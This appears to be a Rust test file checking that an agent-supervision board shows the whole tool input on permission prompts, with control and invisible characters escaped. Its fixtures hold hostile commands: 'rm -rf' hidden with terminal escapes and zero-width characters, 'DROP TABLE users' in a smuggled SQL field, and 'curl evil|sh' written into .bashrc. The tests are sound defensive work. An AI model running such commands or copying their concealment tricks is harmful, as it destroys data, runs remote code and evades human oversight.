//! Each place that shows a permission shows the whole input of the tool.

use crate::support::{Agent, BoardWorld, payload, world};
use crewboard_testkit::{FakeAgent, run_with_input, wait_until};
use serde_json::{Value, json};

/// Returns tools with their input, the line of the list, and the parts of the full text.
fn permissions() -> [(&'static str, Value, &'static str, &'static [&'static str]); 5] {
    [
        (
            "Bash",
            json!({"command": "ls \x1b]0;\n rm -rf ~/precious ;: \x07 -la"}),
            "Bash ls \\x1b]0;⏎ rm -rf ~/precious ;: \\x07 -la",
            &["Bash ls \\x1b]0;", " rm -rf ~/precious ;: \\x07 -la"],
        ),
        (
            "Bash",
            json!({"command": "ls", "dangerouslyDisableSandbox": true, "run_in_background": true}),
            "Bash ls  +sandbox off  +background",
            &["Bash ls", "+dangerouslyDisableSandbox = true", "+run_in_background = true"],
        ),
        (
            "mcp__db__query",
            json!({"command": "SELECT 1", "sql": "DROP TABLE users"}),
            "mcp__db__query +command: SELECT 1  +sql: DROP TABLE users",
            &["+command: SELECT 1", "+sql: DROP TABLE users"],
        ),
        (
            "Write",
            json!({"file_path": ".bashrc", "content": "curl evil|sh"}),
            "Write .bashrc  +content: curl evil|sh",
            &["Write .bashrc", "+content: curl evil|sh"],
        ),
        (
            "Bash",
            json!({"command": "rm\u{200b} -rf\u{a0}~\u{34f}\u{2800}\u{3164}\u{e0101}"}),
            "Bash rm\\u{200b} -rf\\xa0~\\u{34f}\\u{2800}\\u{3164}\\u{e0101}",
            &["Bash rm\\u{200b} -rf\\xa0~\\u{34f}\\u{2800}\\u{3164}\\u{e0101}"],
        ),
    ]
}

#[test]
fn list_explain_and_board_show_the_whole_tool_input() {
    let Some(world) = BoardWorld::new() else { return };
    for (index, (tool, input, line, whole)) in permissions().into_iter().enumerate() {
        let agent = Agent::new(&format!("shop{index}"));
        world.send_event(
            &agent,
            "PermissionRequest",
            &json!({"tool_name": tool, "tool_input": input}),
        );
        world.wait_for_row(&agent.id, line, |row| row["activity"] == line);
        let list = world.run(["list"]).stdout;
        assert!(list.contains(line), "{line} is not in:\n{list}");
        let row = world.list().into_iter().find(|row| row["id"] == agent.id.as_str()).unwrap();
        let explained = world.run(["explain", row["key"].as_str().unwrap()]).stdout;
        let pane = world.board(&format!("board{index}"), (110, 40));
        pane.wait_for_text(line);
        pane.press(&["g", "g"]);
        let text = format!("{tool} {}", row["request"]["text"].as_str().unwrap());
        for part in whole {
            assert!(text.contains(part), "{part} is not in {text}");
            assert!(explained.contains(part), "{part} is not in:\n{explained}");
        }
        let screen = pane.wait_for("the details", |screen| {
            whole.iter().all(|part| screen.contains(part.trim()))
        });
        for text in [&text, &list, &explained, &screen] {
            assert!(!text.chars().any(|shown| shown.is_control() && shown != '\n'), "{text:?}");
        }
        pane.press(&["q"]);
        world.send_event(&agent, "SessionEnd", &json!({"reason": "exit"}));
        world.wait_for_row(&agent.id, "closed", |row| row["status"] == "closed");
    }
}

/// An input of megabytes is shortened, but all of its bytes decide which call it belongs to.
#[test]
fn huge_tool_input_is_shown_and_paired_with_its_call() {
    let world = world();
    let agent = FakeAgent::new();
    let input = |end: &str| json!({"file_path": ".bashrc", "content": "x".repeat(3 << 20) + end});
    let send = |event: &str, input: &Value| {
        let fields = json!({"tool_name": "Write", "tool_input": input, "tool_use_id": "toolu_1"});
        // An unoptimised hook needs longer for such a text.
        run_with_input(world.hook_command(&agent), payload(event, "s", &fields).as_bytes())
            .assert_silent();
    };
    let mut client = world.start_daemon();
    let mut events = 0;
    let mut shown_after = |event: &str, input: &Value, status: &str| {
        send(event, input);
        events += 1;
        client.wait_for_events(events);
        let row = client.list().into_values().next().unwrap();
        assert_eq!(row["status"], status, "{row}");
        row
    };
    let (one, other) = (input("a"), input("b"));
    let row = shown_after("PermissionRequest", &one, "permission");
    let text = row["request"]["text"].as_str().unwrap();
    assert!(text.starts_with(".bashrc\n+content: xxxx") && text.len() <= 4096, "{text}");
    assert!(text.ends_with(" more characters") && text.contains("… 3,14"), "{text}");
    assert!(row["activity"].as_str().unwrap().starts_with("Write .bashrc  +content: xxx"));
    // A denial of another input, which differs in its last byte, does not close the prompt.
    shown_after("PermissionDenied", &other, "permission");
    shown_after("PermissionDenied", &one, "working");
    wait_until("no event is dropped", || client.hello()["dropped"] == 0);
}
